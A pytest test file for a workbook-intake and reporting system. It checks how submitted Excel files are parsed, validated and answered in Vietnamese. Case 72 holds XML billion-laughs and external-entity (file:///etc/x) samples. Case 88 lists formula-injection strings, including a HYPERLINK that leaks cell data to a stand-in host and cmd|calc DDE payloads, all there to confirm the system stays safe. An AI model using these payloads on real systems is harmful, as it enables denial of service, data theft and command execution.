"""Cases 72 to 91: what a workbook says, what the sender is told of it, and what counts."""

from collections.abc import Callable
from datetime import date, datetime
from io import BytesIO
from pathlib import Path
from unicodedata import normalize
from zipfile import ZipFile

import pytest
from openpyxl.workbook.protection import WorkbookProtection
from sqlalchemy import select

from tests.cases.letters import File, answer, letter
from tests.cases.office import FILE, JUNE, LATER, CaseDesk, Prepared, prepare
from tests.cases.workbooks import (
    Place,
    Typed,
    changed,
    formulas,
    mark,
    opened,
    place,
    saved,
    texts,
    typed,
    typed_book,
    unmarked,
    with_part,
)
from tests.rounds.conftest import ROUND, PlainOffice, at
from tests.rounds.desk import FIGURE
from treem.forms.catalogue import problem_message
from treem.ledger.tables import Narrative, Report
from treem.rehearsal.stage import Stage
from treem.rehearsal.writers import as_ods, as_xls
from treem.rounds import inbox, reporting
from treem.rounds.decisions import Decided, DecisionRefused, file_by_hand
from treem.rounds.steps import carry_out

TOTAL = (FIGURE, "total")
SHEET = "xl/worksheets/sheet1.xml"


def send(desk: CaseDesk, *files: File, body: str = "dai", now: datetime = LATER, **changes: str) -> None:
    """The body answers with these files, and the office collects."""
    desk.answer(body, *files, when=now, **changes)
    desk.collect(now)


def send_values(desk: CaseDesk, values: dict[Place, Typed], body: str = "dai", **more: dict[str, str]) -> None:
    send(desk, (FILE, typed(desk.form(body), values, **more)), body=body)


def told_to_correct(desk: CaseDesk, *words: str, body: str = "dai") -> bool:
    """Whether the body was asked to mend it in these words, with a marked copy, and nothing counts yet."""
    assert desk.ends() == [("done", "needs_correction")], desk.reason()
    assert desk.out() == [(desk.address(body), "correction")]
    for said in words:
        assert said in desk.last().text
    assert desk.last().workbook is not None
    assert desk.requests()[body] == "needs_correction"
    return desk.filing(body).first_received_at == LATER and desk.accepted(body) is None


def accepted(desk: CaseDesk, number: int = 4, body: str = "dai") -> bool:
    """Whether it counts with this number, and the body was told so."""
    assert desk.ends() == [("done", "answer")], desk.reason()
    assert desk.out() == [(desk.address(body), "accepted")]
    return desk.requests()[body] == "accepted" and desk.accepted(body) == number


def told_unreadable(desk: CaseDesk, problem: str, name: str = FILE) -> bool:
    """Whether the body was told which file cannot be read and why, and still has to answer."""
    assert desk.ends() == [("done", "unreadable")], desk.reason()
    assert desk.out() == [(desk.address("dai"), "unreadable")]
    assert problem_message(problem) in desk.last().text
    assert f"“{name}”" in desk.last().text
    return desk.nothing_filed()


# ---- 72: files that break readers


def _cell(xml: bytes) -> Callable[[bytes], bytes]:
    return lambda form: changed(form, SHEET, b"</sheetData>", b"<row>" + xml + b"</row></sheetData>")


LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
HOSTILE: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "far cell": (_cell(b'<c r="XFD1048576"><v>1</v></c>'), "too_large"),
    "far row": (_cell(b'<c r="A1048576"><v>1</v></c>'), "too_large"),
    "long comment": (lambda f: changed(f, SHEET, b"<sheetData>", b"<!--" + bytes(61_000_000) + b"--><sheetData>"),
                     "too_large"),
    "many rows": (lambda f: changed(f, SHEET, b"</sheetData>", b"<row><c><v>1</v></c></row>" * 10**6 + b"</sheetData>"),
                  "too_large"),
    "billion laughs": (lambda f: changed(f, SHEET, b"<worksheet", b'<!DOCTYPE x [<!ENTITY l0 "ha">' + LAUGHS
                                         + b"]><worksheet"), "unsafe"),
    "file inclusion": (lambda f: changed(f, SHEET, b"<worksheet", b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/x">]>'
                                         b"<worksheet"), "unsafe"),
    "doubled part": (lambda f: with_part(f, SHEET.upper(), b"<worksheet/>"), "unsafe"),
    "bad reference": (_cell(b'<c r="1A"><v>1</v></c>'), "damaged"),
    "bad boolean": (_cell(b'<c t="b"><v>7</v></c>'), "damaged"),
    "bad text number": (_cell(b'<c t="s"><v>4000000</v></c>'), "damaged"),
    "cut off": (lambda f: f[: len(f) // 2], "damaged"),
}  # fmt: skip
ODD: dict[str, Callable[[bytes], bytes]] = {
    "far cell with a look only": _cell(b'<c r="XFD1048576" s="1"/>'),
    "wide merge": lambda f: changed(
        f, SHEET, b'<mergeCell ref="', b'<mergeCell ref="A60:XFD1048576"/><mergeCell ref="'
    ),
    "macros": lambda f: with_part(f, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500)),
    "an .xls": lambda f: as_xls(opened(f)),
    "an .ods": lambda f: as_ods(opened(f)),
}


def test_case_72_files_that_break_readers_are_named_to_the_sender_and_stop_nothing(
    prepared: Prepared, tmp_path: Path
) -> None:
    desk = prepared.desk(tmp_path / "home", {"acks_per_request": 100})
    good = desk.good("dai")[1]
    for n, (damage, _) in enumerate(HOSTILE.values()):
        desk.answer("dai", (f"tep-{n}.xlsx", damage(good)))
    desk.answer("tckh", desk.good("tckh"))
    desk.collect(LATER)
    told = [letter.text for recipient, letter in desk.sent() if recipient == desk.address("dai")]
    assert len(told) == len(HOSTILE)
    for n, (name, (_, problem)) in enumerate(HOSTILE.items()):
        assert f"“tep-{n}.xlsx”" in told[n], name
        assert problem_message(problem) in told[n], name
    assert desk.ends() == [("done", "unreadable")] * len(HOSTILE) + [("done", "answer")]
    assert desk.requests() == {"dai": "sent", "tckh": "accepted", "03390": "sent"}


@pytest.mark.parametrize("kind", ODD)
def test_case_72_files_that_are_only_odd_count_whatever_they_are_called(desk: CaseDesk, kind: str) -> None:
    send(desk, ("Báo cáo.pdf", ODD[kind](desk.good("dai")[1])))
    assert accepted(desk)
    assert len(desk.submissions("dai")[0].file_sha) == 64


def test_case_72_an_empty_file_is_no_answer_and_the_body_hears_it(desk: CaseDesk) -> None:
    send(desk, (FILE, b""))
    assert [to for to, _ in desk.out()] == [desk.address("dai")]
    assert "chưa được tính là đã nộp" in desk.last().text or problem_message("empty_file") in desk.last().text
    assert desk.nothing_filed()


# ---- 73, 74: another form, another shape


@pytest.mark.parametrize(
    ("key", "value", "words"),
    [
        ("form", "BM-TCKH", "Tệp dùng biểu mẫu BM-TCKH, không phải BM-DAI."),
        ("version", "7", "phiên bản 7, phiên bản đang dùng là 1."),
        ("body", "tckh", "cấp cho đơn vị có mã tckh"),
    ],
)
def test_case_73_the_form_of_another_kind_version_or_body_is_sent_back(
    desk: CaseDesk, key: str, value: str, words: str
) -> None:
    send(desk, (FILE, mark(desk.good("dai")[1], key, value)))
    assert told_to_correct(desk, words)


def test_case_73_the_form_of_a_round_nobody_knows_waits_for_a_person(desk: CaseDesk) -> None:
    send(desk, (FILE, mark(desk.good("dai")[1], "token", "0123456789ABCDEF0123")))
    assert (desk.ends(), desk.out()) == ([("hold", "unmatched")], [])
    assert "không có trong sổ theo dõi" in desk.reason()
    assert desk.nothing_filed()


def reshaped(form: bytes, how: str) -> bytes:
    """A filled form after somebody worked on it."""
    book = opened(form)
    figures = book["Số liệu"]
    if how == "renamed":
        figures.title, book["Thuyết minh"].title = "Sheet1", "Bao cao"
    elif how == "rows inserted":
        figures.insert_rows(15, 3)
    elif how == "sorted":
        rows = [[cell.value for cell in row] for row in figures["A13:G18"]]
        for row, values in zip(figures["A13:G18"], reversed(rows), strict=True):
            for cell, value in zip(row, values, strict=True):
                cell.value = value
    elif how == "columns moved":
        figures.move_range("A12:G18", cols=2, rows=4)
    elif how == "without the texts":
        del book["Thuyết minh"]
    return unmarked(form) if how == "copied" else saved(book)


@pytest.mark.parametrize("how", ["renamed", "rows inserted", "sorted", "columns moved", "copied", "without the texts"])
def test_case_74_a_form_that_was_worked_on_says_the_same(desk: CaseDesk, how: str) -> None:
    values: dict[Place, Typed] = {TOTAL: 7, ("LD-26.2", "total"): 120, ("VH-01", "total"): 33}
    send(desk, (FILE, reshaped(typed(desk.form("dai"), values), how)))
    assert accepted(desk, 7)
    assert set(desk.findings("dai")) == ({"no_marker"} if how == "copied" else set())


@pytest.mark.parametrize(
    ("how", "words"),
    [("deleted", "Thiếu dòng LD-26.1"), ("twice", "lặp lại các mã đã có ở trang “Số liệu”")],
)
def test_case_74_what_can_no_longer_be_told_is_asked_about(desk: CaseDesk, how: str, words: str) -> None:
    book = opened(desk.good("dai")[1])
    if how == "deleted":
        book["Số liệu"].delete_rows(13)
    else:
        book.copy_worksheet(book["Số liệu"])
    send(desk, (FILE, saved(book)))
    assert told_to_correct(desk, words)


def test_case_74_a_form_whose_headings_are_gone_is_not_called_blank(desk: CaseDesk) -> None:
    book, words = opened(desk.good("dai")[1]), "Không tìm thấy dòng tiêu đề cột"
    for cell in book["Số liệu"][12]:
        cell.value = None
    send(desk, (FILE, saved(book)))
    assert (desk.ends(), desk.out()) == ([("done", "unreadable")], [(desk.address("dai"), "unreadable")])
    assert words in desk.last().text
    assert desk.nothing_filed()
    with pytest.raises(DecisionRefused, match=words):
        file_by_hand(desk.house, ROUND, "dai", (FILE, saved(book)), LATER, Decided("can-bo", "nộp giấy", LATER))


# ---- 75 to 81: cells


@pytest.mark.parametrize(
    ("typed_in", "meant"),
    [
        ("1.234", 1234),
        ("1 234", 1234),
        ("１２３４", 1234),
        ("12 hoạt động", 12),
        ("'7", 7),
        ("không có", 0),
        (12.0, 12),
    ],
)
def test_case_75_numbers_typed_as_text_count_as_meant(desk: CaseDesk, typed_in: Typed, meant: int) -> None:
    send_values(desk, {TOTAL: typed_in})
    assert accepted(desk, meant)


@pytest.mark.parametrize(
    ("values", "words"),
    [
        ({TOTAL: "1,234"}, "“1,234” có thể hiểu theo nhiều cách"),
        ({("LD-27", "total"): "1,234.5"}, "“1,234.5” có thể hiểu theo nhiều cách"),
        ({TOTAL: "khoảng 20"}, "“khoảng 20” không phải là một con số"),
        ({TOTAL: "-"}, "không rõ là bằng 0 hay chưa có số liệu"),
        ({("XA-10", "total"): "rồi"}, "“rồi” không phải “Có” hoặc “Không”"),
    ],
)
def test_case_75_what_can_be_read_two_ways_is_asked_about(
    desk: CaseDesk, values: dict[Place, Typed], words: str
) -> None:
    send_values(desk, values)
    (figure, column), *_ = values
    assert told_to_correct(desk, words, place(desk.form("dai"), figure, column).cell)


@pytest.mark.parametrize(("cell", "words"), [("=D14+1", "chưa có kết quả"), ("#DIV/0!", "báo lỗi (#DIV/0!)")])
def test_case_76_an_error_or_a_formula_without_result_is_no_blank(desk: CaseDesk, cell: str, words: str) -> None:
    book = typed_book(desk.form("dai"))
    where = book["Số liệu"][place(desk.form("dai"), FIGURE).cell]
    where.value, where.data_type = cell, "f" if cell.startswith("=") else "e"
    send(desk, (FILE, saved(book)))
    assert told_to_correct(desk, words)


@pytest.mark.parametrize(
    ("values", "words"),
    [
        ({("LD-01", "total"): 10, ("LD-01", "male"): 6, ("LD-01", "female"): 6},
         "LD-01: nam 6 + nữ 6 = 12, khác tổng số 10."),
        ({("LD-01", "minority"): 9}, "dân tộc thiểu số là 9, lớn hơn tổng số 4"),
        ({("LD-03", "total"): 20, ("LD-03", "male"): 10, ("LD-03", "female"): 10},
         "LD-03 (cột Tổng số) là 20, lớn hơn LD-02 là 4."),
    ],
    ids=["parts", "minority", "two rows"],
)  # fmt: skip
def test_case_77_figures_that_contradict_each_other_are_told_with_both_numbers(
    desk: CaseDesk, values: dict[Place, Typed], words: str
) -> None:
    send_values(desk, values, "03390")
    assert told_to_correct(desk, words, body="03390")


def test_case_78_decomposed_letters_read_like_composed_ones(desk: CaseDesk) -> None:
    """As Macs write them: sheet names, headings, words for numbers, texts."""
    words = {"III.4.1": normalize("NFD", "Đã phát 12 bản tin về trẻ em.")}
    values: dict[Place, Typed] = {TOTAL: normalize("NFD", "không áp dụng"), ("XA-10", "total"): normalize("NFD", "Có")}
    book = typed_book(desk.form("dai"), values, words)
    for sheet in book.worksheets:
        sheet.title = normalize("NFD", sheet.title)
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.value = normalize("NFD", cell.value)
    send(desk, (normalize("NFD", FILE), saved(book)))
    assert desk.ends() == [("done", "answer")]
    assert desk.findings("dai") == {}
    assert narratives(desk)["III.4.1"] == "Đã phát 12 bản tin về trẻ em."
    assert desk.submissions("dai")[0].file_name == FILE


def narratives(desk: CaseDesk) -> dict[str, str]:
    with desk.house.ledger.begin() as session:
        return dict(session.execute(select(Narrative.section, Narrative.text)).tuples().all())


@pytest.mark.parametrize(
    "text", ["C«ng an huyÖn ®· tuyªn truyÒn", "Coâng an huyeän ñaõ tuyeân truyeàn", "CÃ´ng an huyá»‡n"]
)
def test_case_79_text_in_an_old_font_is_asked_for_again(desk: CaseDesk, text: str) -> None:
    send_values(desk, {}, texts={"III.4.1": text})
    assert told_to_correct(desk, "phông TCVN3 (.VnTime), VNI hoặc bị lỗi mã", text[:20])


@pytest.mark.parametrize(
    ("values", "words"),
    [
        ({TOTAL: -3}, "-3 là số âm"),
        ({TOTAL: "50%"}, "“50%” không phải là một con số"),
        ({TOTAL: 2.5}, "2,5 không phải số nguyên"),
        ({("LD-27", "total"): 10**13}, "lớn bất thường"),
    ],
)
def test_case_80_negative_percent_and_fractions_are_asked_about(
    desk: CaseDesk, values: dict[Place, Typed], words: str
) -> None:
    send_values(desk, values)
    assert told_to_correct(desk, words)


def test_case_80_an_amount_may_have_decimals(desk: CaseDesk) -> None:
    send_values(desk, {("LD-27", "total"): "12,5", TOTAL: 3})
    assert accepted(desk, 3)


@pytest.mark.parametrize(
    ("value", "words"),
    [("1/6/2027", "“1/6/2027” không phải là một con số"), (date(2027, 6, 1), "ô chứa ngày tháng (01/06/2027)")],
)
def test_case_81_a_date_is_no_number(desk: CaseDesk, value: Typed, words: str) -> None:
    send_values(desk, {TOTAL: value})
    assert told_to_correct(desk, words)


# ---- 82, 83: hidden and locked


def test_case_82_hidden_rows_and_sheets_count_and_the_copy_shows_what_to_mend(desk: CaseDesk) -> None:
    where = place(desk.form("dai"), FIGURE).cell
    for value, number in ((6, 6), ("khoảng 20", None)):
        book = typed_book(desk.form("dai"), {TOTAL: value})
        book["Số liệu"].row_dimensions[13].hidden = True
        book["Số liệu"].column_dimensions["D"].hidden = True
        book["Số liệu"].sheet_state = "hidden"
        send(desk, (FILE, saved(book)))
        assert desk.accepted("dai") == 6
        if number is None:
            copy = opened(desk.last().workbook or b"")["Số liệu"]
            shown = (copy.sheet_state, copy.row_dimensions[13].hidden, copy.column_dimensions["D"].hidden)
            assert (copy[where].value, *shown) == ("khoảng 20", "visible", False, False)
    assert desk.ends() == [("done", "answer"), ("done", "needs_correction")]


def test_case_83_a_workbook_with_a_password_is_named(desk: CaseDesk) -> None:
    """An encrypted .xlsx is a compound file with a stream "EncryptedPackage" (MS-OFFCRYPTO)."""
    data = as_xls(opened(desk.good("dai")[1]))
    old, new = "Workbook".encode("utf-16-le").ljust(64, b"\0"), "EncryptedPackage".encode("utf-16-le").ljust(64, b"\0")
    at = data.index(old) + 64
    send(desk, (FILE, data[: at - 64] + new + (34).to_bytes(2, "little") + data[at + 2 :]))
    assert told_unreadable(desk, "encrypted")


def test_case_83_a_password_against_changes_is_no_hindrance(desk: CaseDesk) -> None:
    book = typed_book(desk.form("dai"))
    book["Số liệu"].protection.set_password("bí mật")
    book.security = WorkbookProtection(lockStructure=True)
    send(desk, (FILE, saved(book)))
    assert accepted(desk)


# ---- 84 to 87: the files of a letter


def test_case_84_beside_a_scan_and_a_letter_in_pdf_the_form_counts(desk: CaseDesk) -> None:
    send(desk, ("cong-van.pdf", b"%PDF-1.7"), desk.good("dai"), ("anh.jpg", b"\xff\xd8\xff"))
    assert accepted(desk)
    assert desk.submissions("dai")[0].file_name == FILE


def test_case_84_beside_a_workbook_of_their_own_the_form_counts(desk: CaseDesk) -> None:
    book = opened(desk.form("dai"))
    for name in ("Thuyết minh", "treem"):
        del book[name]
    sheet = book["Số liệu"]
    sheet.delete_rows(1, 100)
    send(desk, ("theo-doi.xlsx", saved(book)), desk.good("dai"))
    assert accepted(desk)


def test_case_84_the_same_form_twice_is_one_and_two_different_ones_wait_for_a_person(desk: CaseDesk) -> None:
    send(desk, desk.good("dai"), desk.good("dai"))
    assert accepted(desk)
    send(desk, desk.good("dai", 3), desk.good("dai", 5))
    assert desk.ends()[1:] == [("hold", "several_forms")]
    assert len(desk.out()) == 1
    assert desk.accepted("dai") == 4


def zipped(name: str, data: bytes) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w") as package:
        package.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("name", ["bao-cao.zip", "bao-cao.rar", "bao-cao.7z", "bao-cao.pdf", "bao-cao.docx", "anh.jpg"])
def test_case_85_a_file_of_another_kind_is_asked_for_as_a_workbook(desk: CaseDesk, name: str) -> None:
    contents = {
        "zip": zipped(FILE, desk.good("dai")[1]),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(500),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(500),
        "pdf": b"%PDF-1.7\n",
        "docx": zipped("word/document.xml", b"<w:document/>"),
        "jpg": b"\xff\xd8\xff\xe0" + bytes(500),
    }
    send(desk, (name, contents[name.rpartition(".")[2]]))
    assert told_unreadable(desk, "not_a_workbook", name)


@pytest.mark.parametrize(
    "link",
    [
        "https://docs.google.com/spreadsheets/d/1x/edit",
        "https://1drv.ms/x/s!abc",
        "https://a-my.sharepoint.com/:x:/g/b",
    ],
)
def test_case_86_a_link_is_not_opened_and_the_file_is_asked_for(desk: CaseDesk, link: str) -> None:
    send(desk, text=f"Kính gửi Phòng,\n\nBáo cáo ở đây: {link}\n")
    assert (desk.ends(), desk.out()) == ([("done", "link")], [(desk.address("dai"), "link")])
    assert "không mở liên kết" in desk.last().text
    assert link not in desk.last().text
    assert desk.nothing_filed()


@pytest.mark.parametrize("convert", [saved, as_xls, as_ods])
def test_case_87_the_form_as_it_was_sent_is_no_answer(desk: CaseDesk, convert: Callable[..., bytes]) -> None:
    send(desk, (FILE, convert(opened(desk.form("dai")))))
    assert (desk.ends(), desk.out()) == ([("done", "blank_form")], [(desk.address("dai"), "blank")])
    assert "còn trống" in desk.last().text
    assert desk.nothing_filed()


# ---- 88: text that would be a formula

INJECTED = ("=HYPERLINK(\"http://noi-khac.test/?\"&A1,\"xem\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "<script>alert(1)</script>", "=cmd|'/c calc'!A1")  # fmt: skip


def test_case_88_no_text_of_a_body_becomes_a_formula_or_a_link_in_what_we_write(desk: CaseDesk) -> None:
    sections = ("III.4.1", "III.4.2", "III.4.3", "III.4.4", "ton-tai", "nguyen-nhan", "kien-nghi")
    book = typed_book(desk.form("dai"), texts=dict(zip(sections, INJECTED, strict=True)))
    note = book["Số liệu"].cell(13, 7, INJECTED[0])
    note.data_type = "s"
    book["Số liệu"].title = "=1+1"  # the annex says from which sheet each number comes
    send(desk, ("=cmd|' /C calc'!A0.xlsx", saved(book)))
    assert accepted(desk)
    assert set(INJECTED[:1] + INJECTED[2:4]) <= set(narratives(desk).values())
    carry_out(desk.house, ROUND, at(6, 21))
    for path in reporting.document_paths(desk.house, ROUND, 1):
        if path.suffix == ".xlsx":
            assert formulas(path.read_bytes()) == []
            assert path.name.endswith("gui-di.xlsx") or any("=1+1" in text for text in texts(path.read_bytes()))


@pytest.mark.parametrize("text", INJECTED)
def test_case_88_what_is_quoted_back_to_the_body_is_inert_in_letter_and_copy(desk: CaseDesk, text: str) -> None:
    book = typed_book(desk.form("dai"), {TOTAL: text}, {"III.4.1": text})
    before = formulas(saved(book))
    send(desk, (FILE, saved(book)))
    assert desk.out() == [(desk.address("dai"), "correction")]
    raw = desk.world.stage.mail.log[-1].raw
    copy = desk.last().workbook or b""
    new = [cell for cell in formulas(copy) if cell not in before]
    assert [cell for cell in new if not cell.startswith("Kiểm tra!D")] == []  # those lead to the cells to mend
    assert b"<script>alert" not in raw


# ---- 89 to 91: once more, twice, late


def approved_and_sent(desk: CaseDesk) -> None:
    """The round is closed, the report approved and sent on."""
    carry_out(desk.house, ROUND, at(6, 21))
    view = reporting.waiting(desk.house, ROUND)
    assert view is not None
    reporting.decide(desk.house, ROUND, view.version, view.digest, "approved", "Phó Chủ tịch", "", at(6, 22))
    PlainOffice(desk.house).number(ROUND, at(6, 24))
    with desk.house.ledger.begin() as session:
        assert session.scalars(select(Report.state).order_by(Report.version)).all()[-1] == "sent"


@pytest.mark.slow
def test_case_89_a_correction_after_acceptance_counts_also_after_the_report_was_sent_on(desk: CaseDesk) -> None:
    send(desk, desk.good("dai"))
    send(desk, desk.good("dai", 5), now=at(6, 10))
    assert [s.state for s in desk.submissions("dai")] == ["superseded", "accepted"]
    approved_and_sent(desk)
    before = desk.sent()
    send(desk, desk.good("dai", 9), now=at(6, 30))
    assert desk.out()[len(before) :] == [(desk.address("dai"), "accepted")]
    assert (desk.accepted("dai"), desk.filing("dai").on_time) == (18, True)
    with desk.house.ledger.begin() as session:
        assert session.scalars(select(Report.state)).all() == ["sent"]  # what was sent stays what was sent
    with pytest.raises(reporting.ReportSettled, match="báo cáo bổ sung"):
        reporting.draft_report(desk.house, ROUND, at(6, 30))


@pytest.fixture(scope="module")
def sharing(stage: Stage, prepared: Prepared, tmp_path_factory: pytest.TempPathFactory) -> Prepared:
    """An office where one clerk answers for two bodies."""
    clerk = prepared.settings.body("dai", JUNE.date()).emails[0]
    other = prepared.settings.body("tckh", JUNE.date()).emails[0]
    return prepare(stage, tmp_path_factory.mktemp("sharing"), {"tckh": {"emails": [other, clerk]}})


def test_case_90_one_file_sent_to_two_requests_counts_for_each_by_itself(sharing: Prepared, tmp_path: Path) -> None:
    """Without our marks it can be for both; the second one is told which figures its own form asks besides."""
    desk = sharing.desk(tmp_path / "home")
    clerk, file = desk.address("dai"), (FILE, unmarked(desk.good("dai")[1]))
    for body in ("dai", "tckh"):
        desk.answer(body, file, by=clerk)
    desk.collect(LATER)
    assert desk.ends() == [("done", "answer"), ("done", "needs_correction")]
    assert desk.out() == [(clerk, "accepted"), (clerk, "correction")]
    assert [len(desk.submissions(body)) for body in ("dai", "tckh")] == [1, 1]
    assert "TC-01" in desk.last().text


def test_case_90_a_marked_file_counts_only_for_its_own_request(sharing: Prepared, tmp_path: Path) -> None:
    desk = sharing.desk(tmp_path / "home")
    for body in ("dai", "tckh"):
        desk.answer(body, desk.good("dai"), by=desk.address("dai"))
    desk.collect(LATER)
    assert desk.ends() == [("done", "answer"), ("hold", "unmatched")]
    assert desk.requests() == {"dai": "accepted", "tckh": "sent", "03390": "sent"}
    assert len(inbox.waiting(desk.house)) == 1
    assert desk.out() == [(desk.address("dai"), "accepted")]


@pytest.mark.slow
def test_case_91_after_the_closing_and_after_the_report_an_answer_is_recorded_as_late(desk: CaseDesk) -> None:
    send(desk, desk.good("03390"), body="03390")
    carry_out(desk.house, ROUND, at(6, 21))
    assert desk.requests() == {"dai": "overdue", "tckh": "overdue", "03390": "accepted"}
    send(desk, desk.good("dai"), now=at(6, 21, 9))
    approved_and_sent(desk)
    send(desk, desk.good("tckh"), body="tckh", now=at(7, 5))
    assert desk.requests() == dict.fromkeys(("dai", "tckh", "03390"), "accepted")
    assert [desk.filing(body).on_time for body in ("dai", "tckh", "03390")] == [False, False, True]
    told = [(to, said) for to, said in desk.out() if said == "accepted"]
    assert told == [(desk.address(body), "accepted") for body in ("03390", "dai", "tckh")]


@pytest.mark.slow
def test_case_91_a_new_letter_without_any_mark_after_the_report_answers_nothing_by_guess(desk: CaseDesk) -> None:
    approved_and_sent(desk)
    raw = letter(desk.address("dai"), desk.mailbox, (FILE, unmarked(desk.good("dai")[1])))[1]
    desk.post(desk.address("dai"), raw, at(7, 5))
    desk.collect(at(7, 5))
    assert desk.ends()[-1] == ("hold", "unmatched")
    assert desk.submissions("dai") == []


def test_case_91_a_reminder_answered_late_is_found_by_its_thread(desk: CaseDesk) -> None:
    PlainOffice(desk.house).advance(ROUND, "chase-1", at(6, 15))
    chase = [x for x in desk.mail_to(desk.address("dai")) if x.asks][-1]
    assert chase.message_id != desk.asked("dai").message_id
    raw = answer(chase, desk.address("dai"), desk.good("dai"), subject="Nộp muộn")[1]
    desk.post(desk.address("dai"), raw, at(6, 16), desk.mailbox)
    desk.collect(at(6, 16))
    assert (desk.requests()["dai"], desk.filing("dai").on_time) == ("accepted", False)
